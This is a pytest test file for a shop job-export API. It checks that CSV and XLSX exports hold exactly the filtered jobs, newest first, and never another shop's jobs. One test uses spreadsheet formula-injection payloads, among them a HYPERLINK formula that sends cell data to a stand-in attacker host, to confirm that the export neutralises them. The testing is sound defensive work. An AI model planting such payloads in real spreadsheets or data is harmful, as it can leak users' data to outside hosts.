"""Exports over real HTTP on SQLite and PostgreSQL: exactly the list's filtered jobs,
newest first, in CSV (BOM, quoting, formula guard) and XLSX (parsed with openpyxl);
another shop's jobs never appear; keyset batches cross ties on created_at."""

from __future__ import annotations

import csv
import io
import json
import os
import zipfile
from collections.abc import Callable
from contextlib import AbstractAsyncContextManager
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import openpyxl
import pytest
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from pikcel_jobs.db.engine import unit_of_work
from pikcel_jobs.exports import service as exports
from pikcel_jobs.exports import xlsx
from pikcel_jobs.jobs import service as jobs
from pikcel_jobs.jobs.schemas import JobCreate, JobFilter
from pikcel_jobs.jobs.states import JobStatus, change_status

Sessions = async_sessionmaker[AsyncSession]
Client = Callable[[str], httpx.AsyncClient]
T0 = datetime(2026, 10, 1, 8, 0, tzinfo=UTC)
HEADER = [
    "id", "createdAt", "completedAt", "status", "priority", "toolId", "toolName", "productId",
    "productTitle", "creditsUsed", "processingTimeMs", "errorMessage", "outputImageUrl",
    "pikcelJobId", "attempt", "batchId", "metadata",
]  # fmt: skip
EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-3+4", "@SUM(A1:A2)"]


async def add_job(sessions: Sessions, shop: str, *, at: datetime, **fields: object) -> str:
    status = fields.pop("status", None)
    data = {"toolId": "background-removal", "inputImageUrl": "https://cdn.example.com/a.png"}
    data.update(fields)
    async with unit_of_work(sessions) as session:
        job = await jobs.create_job(
            session, shop=shop, data=JobCreate.model_validate(data),
            input_image_url=str(data["inputImageUrl"]), tool_name="Background removal", now=at,
        )  # fmt: skip
        if status == "completed":
            await change_status(session, job, JobStatus.PROCESSING)
            await change_status(
                session, job, JobStatus.COMPLETED,
                fields={"credits_used": 2, "processing_time_ms": 4321,
                        "completed_at": at + timedelta(seconds=5),
                        "output_image_url": "https://out.example.com/x.png"},
            )  # fmt: skip
        elif status == "failed":
            await change_status(
                session, job, JobStatus.FAILED, fields={"error_message": "No subject, found"}
            )
        return job.id


async def seed(sessions: Sessions, shop: str) -> dict[str, list[str]]:
    """12 jobs over 12 hours: every third completed, every fourth failed; two tools."""
    ids: dict[str, list[str]] = {"all": [], "completed": [], "upscale": []}
    for i in range(12):
        status = "completed" if i % 3 == 0 else ("failed" if i % 4 == 1 else None)
        tool = "upscale-2x" if i % 2 else "background-removal"
        job_id = await add_job(
            sessions, shop, at=T0 + timedelta(hours=i), status=status, toolId=tool,
            productId=f"gid://shopify/Product/{100 + i}", productTitle=f"Mug «{i}», blue",
            metadata={"campaign": "fall" if i < 6 else "winter", "n": i},
        )  # fmt: skip
        ids["all"].append(job_id)
        if status == "completed":
            ids["completed"].append(job_id)
        if tool == "upscale-2x":
            ids["upscale"].append(job_id)
    for key in ids:
        ids[key].reverse()  # newest first, as the list and the export order them
    return ids


def read_csv(response: httpx.Response) -> list[dict[str, str]]:
    assert response.content.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM for Excel"
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == HEADER
    return [dict(zip(HEADER, row, strict=True)) for row in rows[1:]]


def read_xlsx(response: httpx.Response) -> tuple[list[str], list[dict[str, object]], object]:
    book = openpyxl.load_workbook(io.BytesIO(response.content), read_only=False)
    sheet = book["Jobs"]
    rows = list(sheet.iter_rows(values_only=True))
    header = [str(c) for c in rows[0]]
    return header, [dict(zip(header, row, strict=True)) for row in rows[1:]], sheet


async def test_csv_holds_exactly_the_filtered_jobs(
    client_for: Client, sessions: Sessions, shop: str, other_shop: str
) -> None:
    ids = await seed(sessions, shop)
    await seed(sessions, other_shop)
    client = client_for(shop)

    everything = await client.get("/api/jobs/export.csv")
    assert everything.status_code == 200, everything.text
    assert everything.headers["content-type"].startswith("text/csv")
    disposition = everything.headers["content-disposition"]
    assert disposition == f"attachment; filename=pikcel-jobs-{datetime.now(UTC):%Y%m%d}.csv"
    rows = read_csv(everything)
    assert [r["id"] for r in rows] == ids["all"]

    completed = read_csv(await client.get("/api/jobs/export.csv", params={"status": "completed"}))
    assert [r["id"] for r in completed] == ids["completed"]
    row = completed[0]
    assert row["status"] == "completed" and row["creditsUsed"] == "2"
    assert (
        row["processingTimeMs"] == "4321"
        and row["outputImageUrl"] == "https://out.example.com/x.png"
    )
    assert (
        row["createdAt"] == "2026-10-01T17:00:00Z" and row["completedAt"] == "2026-10-01T17:00:05Z"
    )
    assert row["productTitle"] == "Mug «9», blue"  # quoted comma, non-ASCII intact
    assert json.loads(row["metadata"]) == {"campaign": "winter", "n": 9}
    assert row["attempt"] == "1" and row["batchId"] == "" and row["errorMessage"] == ""

    # The same filters as the list, combined (status, tool, metadata, date range).
    params = [("status", "completed"), ("status", "pending"), ("toolId", "upscale-2x"),
              ("meta.campaign", "fall"), ("from", "2026-10-01T00:00:00Z")]  # fmt: skip
    listed = (await client.get("/api/jobs", params=[*params, ("limit", "100")])).json()["jobs"]
    exported = read_csv(await client.get("/api/jobs/export.csv", params=params))
    assert [r["id"] for r in exported] == [j["id"] for j in listed] and exported

    failed = read_csv(await client.get("/api/jobs/export.csv", params={"status": "failed"}))
    assert failed and all(r["errorMessage"] == "No subject, found" for r in failed)


async def test_another_shops_jobs_never_appear(
    client_for: Client, sessions: Sessions, shop: str, other_shop: str
) -> None:
    mine = await add_job(sessions, shop, at=T0)
    theirs = await add_job(sessions, other_shop, at=T0)
    for ext in ("csv", "xlsx"):
        response = await client_for(other_shop).get(f"/api/jobs/export.{ext}", params={"q": mine})
        assert response.status_code == 200
        assert mine.encode() not in response.content
    rows = read_csv(await client_for(other_shop).get("/api/jobs/export.csv"))
    assert [r["id"] for r in rows] == [theirs]


async def test_xlsx_holds_exactly_the_filtered_jobs(
    client_for: Client, sessions: Sessions, shop: str
) -> None:
    ids = await seed(sessions, shop)
    response = await client_for(shop).get("/api/jobs/export.xlsx", params={"toolId": "upscale-2x"})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == exports_xlsx_type()
    assert response.headers["content-disposition"].endswith(".xlsx")
    header, rows, _sheet = read_xlsx(response)
    assert header == HEADER
    assert [r["id"] for r in rows] == ids["upscale"]
    first = rows[0]
    assert first["createdAt"] == datetime(2026, 10, 1, 19, 0)  # a real date cell (UTC)
    assert first["toolId"] == "upscale-2x" and first["attempt"] == 1
    assert json.loads(str(first["metadata"])) == {"campaign": "winter", "n": 11}
    completed = next(r for r in rows if r["status"] == "completed")
    assert completed["creditsUsed"] == 2 and completed["processingTimeMs"] == 4321


def exports_xlsx_type() -> str:
    return "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


async def test_formula_injection_is_neutralised(
    client_for: Client, sessions: Sessions, shop: str
) -> None:
    for i, title in enumerate(EVIL):
        await add_job(sessions, shop, at=T0 + timedelta(minutes=i), productTitle=title,
                      metadata={"note": title})  # fmt: skip
    client = client_for(shop)
    rows = read_csv(await client.get("/api/jobs/export.csv"))
    titles = sorted(r["productTitle"] for r in rows)
    assert titles == sorted("'" + t for t in EVIL)
    assert all(r["metadata"].startswith('{"note":') for r in rows)  # JSON starts with {

    _header, xrows, sheet = read_xlsx(await client.get("/api/jobs/export.xlsx"))
    assert sorted(str(r["productTitle"]) for r in xrows) == sorted("'" + t for t in EVIL)
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", f"formula cell at {cell.coordinate}"


async def test_export_paths_are_not_job_ids_and_filters_are_checked(
    client_for: Client, shop: str, api_url: str
) -> None:
    client = client_for(shop)
    empty = await client.get("/api/jobs/export.csv")
    assert empty.status_code == 200 and read_csv(empty) == []
    _header, rows, _ = read_xlsx(await client.get("/api/jobs/export.xlsx"))
    assert rows == []
    bad = await client.get("/api/jobs/export.csv", params={"status": "exploded"})
    assert bad.status_code == 400 and bad.json()["success"] is False
    assert "status" in bad.json()["error"]["message"]
    unknown = await client.get("/api/jobs/export.xlsx", params={"colour": "red"})
    assert unknown.status_code == 400 and "colour" in unknown.json()["error"]["message"]
    async with httpx.AsyncClient(base_url=api_url) as anonymous:
        assert (await anonymous.get("/api/jobs/export.csv")).status_code == 401
    schema = (await client.get("/openapi.json")).json()
    assert "/api/jobs/export.csv" in schema["paths"] and "/api/jobs/export.xlsx" in schema["paths"]


@pytest.mark.parametrize("batch_size", [1, 3, 5])
async def test_keyset_batches_cross_equal_timestamps(
    sessions: Sessions, shop: str, batch_size: int
) -> None:
    """Several jobs share one created_at: (created_at, id) still visits each once."""
    made = []
    for i in range(11):
        at = T0 + timedelta(hours=i // 4)
        made.append((at, await add_job(sessions, shop, at=at)))
    expected = [job_id for _at, job_id in sorted(made, reverse=True)]

    def open_session() -> AbstractAsyncContextManager[AsyncSession]:
        return unit_of_work(sessions, read_only=True)

    seen: list[str] = []
    async for rows in exports.batches(
        open_session, shop=shop, job_filter=JobFilter(), batch_size=batch_size
    ):
        assert len(rows) <= batch_size
        seen.extend(row[0] for row in rows)
    assert seen == expected

    chunks = [
        c
        async for c in exports.csv_stream(
            open_session, shop=shop, job_filter=JobFilter(), batch_size=batch_size
        )
    ]
    lines = b"".join(chunks).decode("utf-8-sig").splitlines()
    assert [line.split(",")[0] for line in lines[1:]] == expected


def test_neutralise() -> None:
    assert exports.neutralise("=1+1") == "'=1+1"
    assert exports.neutralise("\tcmd") == "'\tcmd"
    assert exports.neutralise("Mug = great") == "Mug = great"
    assert exports.neutralise("") == ""


async def test_xlsx_sheet_rolls_over(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """Excel's row limit: the export continues on a new sheet, header repeated."""
    monkeypatch.setattr(xlsx, "MAX_ROWS", 4)
    path = str(tmp_path / "roll.xlsx")
    book = xlsx.StreamingXlsx(path, exports.COLUMNS)
    row = ["id", T0, None, "pending", "normal", "t", None, None, None, 0, None, None, None,
           None, 1, None, ""]  # fmt: skip
    book.write_rows([[f"job-{i}", *row[1:]] for i in range(7)])
    book.close()
    workbook = openpyxl.load_workbook(path)
    assert workbook.sheetnames == ["Jobs", "Jobs (2)", "Jobs (3)"]
    assert all([c.value for c in workbook[n][1]] == HEADER for n in workbook.sheetnames)
    ids = [
        r[0]
        for n in workbook.sheetnames
        for r in workbook[n].iter_rows(min_row=2, values_only=True)
    ]
    assert ids == [f"job-{i}" for i in range(7)]
    assert workbook["Jobs"].freeze_panes == "A2"


def test_xlsx_text_round_trips(tmp_path: Path) -> None:
    """Escaping as xlsxwriter does it: XML specials, control characters, the literal
    `_xHHHH_` pattern, edge whitespace, long and non-BMP text."""
    texts = ["a & <b> > c", "  padded  ", "bell\x07 and tab\t", "literal _x0041_ here",
             "émoji 🖼️ ok", "line\nbreak", "x" * 40_000]  # fmt: skip
    path = str(tmp_path / "text.xlsx")
    book = xlsx.StreamingXlsx(
        path, [xlsx.XlsxColumn("text", "text", 20), xlsx.XlsxColumn("n", "int", 5)]
    )
    book.write_rows([[t, i] for i, t in enumerate(texts)])
    book.close()
    sheet = openpyxl.load_workbook(path)["Jobs"]
    got = [r for r in sheet.iter_rows(min_row=2, values_only=True)]
    assert [g[1] for g in got] == list(range(len(texts)))
    assert got[0][0] == "a & <b> > c" and got[1][0] == "  padded  "
    # Excel reads `_x005F_` back as "_"; openpyxl leaves the escapes as they are.
    assert got[3][0] in ("literal _x0041_ here", "literal _x005F_x0041_ here")
    assert got[4][0] == "émoji 🖼️ ok"
    assert got[5][0] == "line\nbreak" and got[6][0] == "x" * 32_767
    assert got[2][0] in ("bell\x07 and tab\t", "bell_x0007_ and tab\t")
    with zipfile.ZipFile(path) as package:
        names = package.namelist()
        assert "[Content_Types].xml" in names and "xl/styles.xml" in names
        assert all(not info.flag_bits & 0x08 for info in package.infolist())  # no data descriptors


async def test_xlsx_temporary_file_is_removed_on_failure_and_abandon(
    sessions: Sessions, shop: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    for i in range(5):
        await add_job(sessions, shop, at=T0 + timedelta(minutes=i))
    monkeypatch.setattr(exports.tempfile, "tempdir", str(tmp_path))
    calls = 0

    def failing_session() -> AbstractAsyncContextManager[AsyncSession]:
        nonlocal calls
        calls += 1
        if calls == 2:
            raise ConnectionError("database went away")
        return unit_of_work(sessions, read_only=True)

    with pytest.raises(ConnectionError):
        async for _ in exports.xlsx_stream(
            failing_session, shop=shop, job_filter=JobFilter(), batch_size=2
        ):
            pass
    assert os.listdir(tmp_path) == []

    stream = exports.xlsx_stream(
        lambda: unit_of_work(sessions, read_only=True),
        shop=shop,
        job_filter=JobFilter(),
        batch_size=2,
    )
    first = await anext(stream)
    assert first.startswith(b"PK") and len(os.listdir(tmp_path)) == 1
    await stream.aclose()  # the client went away mid-download
    assert os.listdir(tmp_path) == []
